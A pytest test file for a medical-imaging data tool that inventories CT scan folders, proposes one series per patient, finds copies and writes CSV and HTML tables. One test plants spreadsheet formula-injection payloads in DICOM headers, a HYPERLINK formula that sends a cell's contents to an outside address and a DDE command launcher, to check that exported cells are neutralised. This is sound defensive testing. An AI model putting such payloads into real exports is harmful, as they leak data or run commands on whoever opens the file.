"""What a folder holds, whatever its state, and the table that is proposed."""

import csv
import json
import re
import shutil
import stat
import time
from zlib import crc32

import nibabel
import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st
from make_dicom import chest, write_nifti, write_series
from PIL import Image
from pydicom import dcmread
from typer.testing import CliRunner

from medpfl.cli.main import app
from medpfl.data.check import check
from medpfl.data.kinds.scans.found import Found, Inventory
from medpfl.data.kinds.scans.inventory import in_words, take_inventory
from medpfl.data.kinds.scans.inventory_copies import with_copies
from medpfl.data.kinds.scans.inventory_drawn import with_thumbnails
from medpfl.data.kinds.scans.inventory_files import write_inventory
from medpfl.data.kinds.scans.label_table import Columns, read_rows
from medpfl.data.kinds.scans.proposal import propose
from medpfl.data.spreadsheet import as_text, in_one_line, meant


def _series(folder, slices=20, **values):
    """A series of 20 slices, 8 mm apart, unless something else is said."""
    spacing = values.pop("spacing", (0.8, 0.7, 8.0))

    def change(n, dataset):
        for name, value in values.items():
            setattr(dataset, name, value)

    patient = values.pop("patient", "P1")
    return write_series(
        folder,
        chest(slices, edge=16, seed=crc32(str(folder).encode())),
        patient=patient,
        spacing=spacing,
        change=change,
    )


@pytest.fixture
def export(tmp_path):
    """What a PACS may give: no tables, and all kinds of things."""
    root = tmp_path / "export"
    thin = _series(root / "1" / "thin", 40, spacing=(0.8, 0.7, 4.0), patient="ANNA", SeriesDescription="Thorax 4.0")
    _series(root / "1" / "thick", 16, spacing=(0.8, 0.7, 10.0), patient="ANNA", SeriesDescription="Thorax 10")
    _series(root / "1" / "part", 10, spacing=(0.8, 0.7, 0.5), patient="ANNA")
    _series(root / "1" / "mr", 5, patient="ANNA", Modality="MR")
    only = _series(root / "2", patient="BEN", StudyDate="20240131")
    (root / "2" / "empty.dcm").touch()
    (root / "2" / "letter.dcm").write_text("Dear colleague")
    gap = _series(root / "3", patient="CLEO")
    (root / "3" / "010.dcm").unlink()
    write_nifti(root / "4" / "dora.nii.gz", chest(20, edge=16), spacing=(0.8, 0.7, 8.0))
    (root / "4" / "old.nrrd").write_bytes(b"NRRD0004\n")
    Image.fromarray(np.zeros((8, 12), np.uint8)).save(root / "4" / "knee.png")
    (root / "readme.txt").write_text("exported on Monday")
    (root / "2" / "empty.dcm").unlink()
    return root, {"thin": thin, "only": only, "gap": gap}


def test_everything_is_found_with_what_is_wrong(export):
    root, uids = export
    inventory = take_inventory(root)
    found = {one.place: one for one in inventory.found}
    assert set(found) == {
        "1/mr", "1/part", "1/thick", "1/thin", "2", "2/letter.dcm", "3", "4/dora.nii.gz", "4/knee.png", "4/old.nrrd"
    }  # fmt: skip
    thin = found["1/thin"]
    assert (thin.name, thin.patient, thin.slices, thin.thickness) == (uids["thin"], "ANNA", 40, 4.0)
    assert (thin.description, thin.modality, thin.kernel, thin.coverage) == ("Thorax 4.0", "CT", "B30f", 160)
    assert thin.spacing == (0.8, 0.7, 4.0) and thin.matrix == "16×16" and thin.problems == ()
    assert found["1/mr"].read_as == "MR scan" and not found["1/mr"].volume
    assert "1 slice seems to be missing" in found["3"].problems[0][1]
    assert found["2"].usable and "a text file" in found["2/letter.dcm"].problems[0][1]
    assert "NRRD is not read" in found["4/old.nrrd"].problems[0][1]
    assert found["4/knee.png"].matrix == "8×12" and inventory.others == 1
    assert in_words(inventory)[0] == (
        "5 CT volumes that can be used, of 3 patients; 1 of them NIfTI, which does not say that it is CT"
    )


def test_a_series_is_proposed_for_each_patient_with_the_reason(export):
    root, uids = export
    proposed = {one.patient: one for one in propose(take_inventory(root))}
    assert set(proposed) == {"ANNA", "BEN", "CLEO", "dora"}
    assert proposed["ANNA"].chosen.name == uids["thin"]
    assert proposed["ANNA"].reason == "the thinnest of 2 that cover 150 mm: 4 mm, others 10 mm"
    assert proposed["BEN"].reason == "the only CT volume"
    assert proposed["CLEO"].chosen is None and "1 slice seems to be missing" in proposed["CLEO"].reason
    assert proposed["dora"].chosen.name == "4/dora.nii.gz"


@pytest.mark.parametrize(
    "slices, reason",
    [
        ((10,), "the only CT volume, of 80 mm from bottom to top, not a whole chest"),
        ((10, 8), "the longest of 2; none covers 150 mm"),
        ((20, 20), "the thinnest of 2 that cover 150 mm: 8 mm; one of 2 as thin: compare their kernels and dates"),
    ],
)
def test_what_decides_where_it_is_not_easy(tmp_path, slices, reason):
    for number, count in enumerate(slices):
        _series(tmp_path / str(number), count)
    (proposal,) = propose(take_inventory(tmp_path))
    assert proposal.reason == reason and proposal.chosen.slices == max(slices)


def test_the_command_writes_a_table_a_page_and_a_draft(export, tmp_path):
    root, uids = export
    out = tmp_path / "out"
    done = CliRunner().invoke(app, ["data", "inventory", str(root), "--out", str(out)])
    assert done.exit_code == 0 and "5 CT volumes that can be used, of 3 patients" in done.output
    rows = list(csv.DictReader((out / "inventory.csv").open()))
    assert len(rows) == 10 and "date" not in rows[0] and "20240131" not in (out / "inventory.html").read_text()
    assert [row["state"] for row in rows if row["where"] == "3"] == ["cannot be used"]
    page = (out / "inventory.html").read_text()
    assert page.count("data:image/png;base64,") == 8 and "ANNA" in page and "not read" in page
    for name in ("inventory.csv", "inventory.html", "labels.csv"):
        assert stat.S_IMODE((out / name).stat().st_mode) & 0o077 == 0
    draft = list(csv.DictReader((out / "labels.csv").open()))
    assert [(row["patient"], row["series"], row["label"]) for row in draft][:3] == [
        ("ANNA", uids["thin"], ""), ("BEN", uids["only"], ""), ("CLEO", "", "")
    ]  # fmt: skip
    again = CliRunner().invoke(app, ["data", "inventory", str(root), "--out", str(out)])
    assert again.exit_code != 0 and "is there already" in str(again.exception)


def test_reasons_in_the_table_are_told_apart(tmp_path):
    problems = (("warning", "two gaps; none is wide"), ("error", "its values are not like HU; is it CT?"))
    place = tmp_path / "a.nii"
    found = Found("NIfTI", place, "a.nii", "a.nii", "a", (place,), problems=problems)
    write_inventory(tmp_path / "out", Inventory(tmp_path, [found]), [(found, "")], (), False)
    (row,) = csv.DictReader((tmp_path / "out" / "inventory.csv").open())
    assert row["what is wrong"].split(" | ") == [words for _, words in problems]


def test_the_draft_filled_in_is_a_label_table(export, tmp_path):
    root, _ = export
    CliRunner().invoke(app, ["data", "inventory", str(root), "--out", str(tmp_path / "out"), "--dates"])
    assert "20240131" in (tmp_path / "out" / "inventory.csv").read_text()
    lines = (tmp_path / "out" / "labels.csv").read_text().splitlines()
    kept = [line for line in lines if not line.startswith(",,")]
    filled = [kept[0], *(line.replace(",,", f",{n % 2},", 1) for n, line in enumerate(kept[1:]))]
    (root / "labels.csv").write_text("\n".join(filled) + "\n")
    found = check(root)
    assert not [f.message for f in found if f.level == "error"]
    assert any("3 patients, 3 scans that can be used" in f.message for f in found)


@given(st.text(st.sampled_from("'=+-@\t\r\n5.eE a"), max_size=8))
def test_no_cell_is_a_formula_and_each_is_read_as_it_was_but_in_one_line(cell):
    written = as_text(cell)
    assert meant(written) == in_one_line(cell)
    assert not written.startswith(tuple("=+-@\t")) or re.fullmatch(r"[+-]?\d+(\.\d+)?(e[+-]?\d+)?", written, re.I)
    assert "\r" not in written


def test_headers_of_a_stranger_are_no_formulas_in_a_spreadsheet(tmp_path):
    link = '=HYPERLINK("http://x/?"&B2,"P1")'
    _series(tmp_path / "ct" / "1", patient=link, SeriesDescription="=cmd|'/C calc'!A0")
    _series(tmp_path / "ct" / "2", patient="P2")
    out = tmp_path / "out"
    CliRunner().invoke(app, ["data", "inventory", str(tmp_path / "ct"), "--out", str(out)])
    for name in ("inventory.csv", "labels.csv"):
        rows = list(csv.reader((out / name).read_text().splitlines()))
        assert f"'{link}" in rows[1]
        assert not [cell for row in rows for cell in row if cell.startswith("=")]
    labels = (out / "labels.csv").read_text()
    (tmp_path / "ct" / "labels.csv").write_text(labels.replace(",,", ",0,", 1).replace(",,P2", ",1,P2"))
    found = read_rows(tmp_path / "ct" / "labels.csv", Columns())
    assert {row.patient for row in found.rows} == {link, "P2"}


def test_patients_without_an_identifier_are_their_folders(tmp_path):
    _series(tmp_path / "case 7" / "ct", patient="")
    for name in ("sub-1", "sub-2"):
        write_nifti(tmp_path / name / "ct.nii.gz", chest(20, edge=16), spacing=(0.8, 0.7, 8.0))
    assert [one.patient for one in propose(take_inventory(tmp_path))] == ["case 7", "sub-1", "sub-2"]


def test_two_hospitals_folders_of_one_name_are_two_patients(tmp_path):
    for site in ("north", "south"):
        for patient in ("p0", "p1"):
            write_nifti(tmp_path / site / patient / "image.nii.gz", chest(20, edge=16, seed=len(site)))
    write_nifti(tmp_path / "south" / "p2" / "image.nii.gz", chest(20, edge=16))
    found = propose(take_inventory(tmp_path))
    assert [one.patient for one in found] == ["north/p0", "north/p1", "p2", "south/p0", "south/p1"]
    assert all(one.chosen for one in found)


def test_tables_that_are_there_are_not_replaced_without_a_word(tmp_path):
    for site in ("north", "south"):
        write_nifti(tmp_path / "ct" / site / f"{site}.nii", chest(20, edge=16))
        (tmp_path / "ct" / site / "labels.csv").write_text("series,label\n")
    done = CliRunner().invoke(app, ["data", "inventory", str(tmp_path / "ct"), "--out", str(tmp_path / "out")])
    said = " ".join(done.output.split())
    assert "that have such a table already: north, south; one in" in said and "itself makes one site of all." in said


def test_thumbnails_tell_what_headers_do_not(tmp_path):
    write_series(tmp_path / "raw", chest() + 1024)
    (tmp_path / "cut.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    told = {one.place: one.problems for one, _ in with_thumbnails(take_inventory(tmp_path))}
    assert "without their offset" in told["raw"][0][1] and "cannot be read" in told["cut.png"][0][1]


def test_headers_take_less_than_50_ms_a_file_and_no_folder_is_an_error(tmp_path):
    _series(tmp_path / "s", 60)
    start, told = time.perf_counter(), []
    take_inventory(tmp_path, lambda done, total: told.append((done, total)))
    assert (time.perf_counter() - start) / 60 < 0.05
    assert told[-1] == (60, 60) and len(told) == 60
    done = CliRunner().invoke(app, ["data", "inventory", str(tmp_path / "nothing")])
    assert done.exit_code != 0 and "there is no such folder" in str(done.exception)


@pytest.fixture
def cohort(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    root = tmp_path / "north"
    for number in range(4):
        write_series(root / f"s{number}", chest(seed=number), patient=f"P{number}", spacing=(5, 5, 5))
    (root / "labels.csv").write_text("series,label\n" + "".join(f"s{n},{n % 2}\n" for n in range(4)))
    return root


def _deep(root, page, *more):
    return CliRunner().invoke(app, ["data", "check", str(root), "--deep", "--page", str(page), *more])


def test_the_deep_check_says_for_how_many_scans_lungs_were_found(cohort, tmp_path):
    head = np.where(chest() < -700, 30, chest()).astype(np.int16)
    head[:, :3] = -1000
    shutil.rmtree(cohort / "s3")
    write_series(cohort / "s3", head, patient="P3", spacing=(5, 5, 5))
    page = tmp_path / "deep.html"
    done = _deep(cohort, page)
    assert done.exit_code == 0
    assert "north: lung crop applied to 3 of 4 scans; it keeps at least 100 % of the air inside the body" in done.output
    assert re.search(r"warning north: .*s3: no lungs were found: the scan stays whole", done.output)
    text = page.read_text()
    assert text.count("<img ") == 4 and text.count("<svg ") == 4 and "not found" in text
    assert stat.S_IMODE(page.stat().st_mode) & 0o077 == 0


def test_the_deep_check_finds_what_a_middle_slice_does_not_show(cohort, tmp_path):
    def torn(n, dataset):
        dataset.compress("1.2.840.10008.1.2.5")
        if n == 2:
            dataset["PixelData"]._value = dataset.PixelData.replace(dataset.PixelData[24:60], b"\x81" * 36)

    shutil.rmtree(cohort / "s1")
    write_series(cohort / "s1", chest(seed=9), patient="P1", spacing=(5, 5, 5), change=torn)
    assert not [f for f in check(cohort) if f.level == "error"]
    done = _deep(cohort, tmp_path / "deep.html")
    assert done.exit_code == 1 and "002.dcm: its pixels cannot be decoded" in done.output
    assert "002.dcm: its pixels cannot be decoded" in (tmp_path / "deep.html").read_text()


def test_the_deep_check_fills_the_cache_of_a_run_whose_results_count_the_crops(cohort, tmp_path):
    _deep(cohort, tmp_path / "deep.html", "--data-arg", "size=16")
    kept = {file: file.stat().st_mtime_ns for file in (tmp_path / "cache" / "medpfl" / "ct").iterdir()}
    out = tmp_path / "out"
    words = ["run", "local", "--data", str(cohort), "--data-arg", "size=16", "--rounds", "1", "--sites", "1"]
    done = CliRunner().invoke(app, [*words, "--model", "lenet5", "--env", "inprocess", "--out", str(out)])
    assert done.exit_code == 0, done.output
    assert kept == {file: file.stat().st_mtime_ns for file in (tmp_path / "cache" / "medpfl" / "ct").iterdir()}
    (site,) = json.loads((out / "results.json").read_text())["data"]["sites"].values()
    assert (len(kept), site["scans"], site["lung_crop"]) == (4, 4, 4)


def test_other_data_have_no_deeper_check(tmp_path):
    (tmp_path / "x.npz").write_bytes(b"")
    done = _deep(tmp_path / "x.npz", tmp_path / "deep.html")
    assert done.exit_code != 0 and "--deep decodes scans" in str(done.exception)
    done = CliRunner().invoke(app, ["data", "check", str(tmp_path), "--page", "x.html"])
    assert done.exit_code != 0 and "add --deep" in str(done.exception)


def test_copies_are_found_by_content(export):
    root, _ = export
    for number, file in enumerate(sorted((root / "1" / "thick").iterdir())):
        dataset = dcmread(file)  # anonymised anew: other identifiers, another folder
        dataset.SeriesInstanceUID, dataset.PatientID = "1.2.3.4", "SOMEBODY ELSE"
        dataset.SOPInstanceUID = dataset.file_meta.MediaStorageSOPInstanceUID = f"1.2.3.4.{number}"
        (root / "5").mkdir(exist_ok=True)
        dataset.save_as(root / "5" / file.name)
    write_nifti(root / "6" / "emil.nii.gz", chest(20, edge=16), spacing=(0.8, 0.7, 8.0))  # as dora's
    shutil.copy(root / "4" / "knee.png", root / "knee again.png")
    before = take_inventory(root)
    assert before.copies == ()
    inventory = with_copies(before)
    assert {tuple(sorted(same)) for same in inventory.copies} == {
        ("1/thick", "5"), ("4/dora.nii.gz", "6/emil.nii.gz"), ("4/knee.png", "knee again.png")
    }  # fmt: skip
    found = {one.place: one for one in inventory.found}
    assert ("warning", "has the same content as 5: take one of them") in found["1/thick"].problems
    assert found["1/thick"].state == "odd" and found["1/thin"].problems == () == found["2"].problems
    reasons = {one.patient: one.reason for one in propose(inventory)}
    assert reasons["SOMEBODY ELSE"].endswith("; has the same content as 1/thick: take one of them")
    assert any(line.startswith("6 have the same content as another, ") for line in in_words(inventory))
    done = CliRunner().invoke(app, ["data", "inventory", str(root)])
    assert done.exit_code == 0 and "6 have the same content as another" in " ".join(done.output.split())


@pytest.mark.parametrize("turn", [1, -1])
def test_a_scan_as_dicom_and_nifti_is_there_twice(tmp_path, turn):
    volume = chest(20, edge=16)
    write_series(tmp_path / "dicom", volume, spacing=(0.8, 0.7, 8.0))
    write_nifti(tmp_path / "same.nii.gz", volume, spacing=(0.8, 0.7, 8.0))
    if turn < 0:  # from the head down
        image = nibabel.load(tmp_path / "same.nii.gz")
        nibabel.save(image.slicer[:, :, ::-1], tmp_path / "same.nii.gz")
    assert with_copies(take_inventory(tmp_path)).copies == (("dicom", "same.nii.gz"),)


def test_slices_that_show_nothing_are_no_copies(tmp_path):
    for name in ("a", "b"):
        write_series(tmp_path / name, np.full((6, 8, 8), -1000.0))
    assert with_copies(take_inventory(tmp_path)).copies == ()
